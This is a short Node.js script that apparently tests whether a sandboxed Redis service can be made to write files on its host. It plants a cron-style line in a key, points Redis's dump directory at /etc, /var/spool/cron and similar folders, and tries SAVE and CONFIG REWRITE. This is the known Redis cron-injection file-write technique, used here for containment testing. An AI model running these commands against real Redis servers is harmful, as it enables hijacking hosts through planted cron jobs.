// exploit: has its Redis write files: the database, the log of changes, the settings, wherever it may
// outcome: finished
// says: nothing was written
// job: {"services":["redis"]}
const { createClient } = require('redis')

async function attack() {
  const client = await createClient({ url: process.env.REDIS_URL }).on('error', () => {}).connect()
  const run = (...words) => client.sendCommand(words).catch((error) => error)
  await run('SET', 'line', '\n* * * * * __HOST_FILE__\n')
  for (const folder of ['/', '/tmp', '/app', '/dev', '/etc', '/var/spool/cron', '__HOST_FILE__']) {
    if (!((await run('CONFIG', 'SET', 'dir', folder)) instanceof Error)) console.log('ESCAPED', folder)
  }
  for (const [name, value] of [['dbfilename', 'cron'], ['enable-protected-configs', 'yes'], ['logfile', '/tmp/log'], ['unixsocket', '/tmp/socket'], ['pidfile', '/tmp/pid']]) {
    if (!((await run('CONFIG', 'SET', name, value)) instanceof Error)) console.log('ESCAPED', name)
  }
  for (const words of [['SAVE'], ['CONFIG', 'REWRITE'], ['ACL', 'SAVE'], ['CLUSTER', 'SAVECONFIG']]) {
    if (!((await run(...words)) instanceof Error)) console.log('ESCAPED', ...words)
  }
  console.log('nothing was written')
  client.destroy()
}
attack()
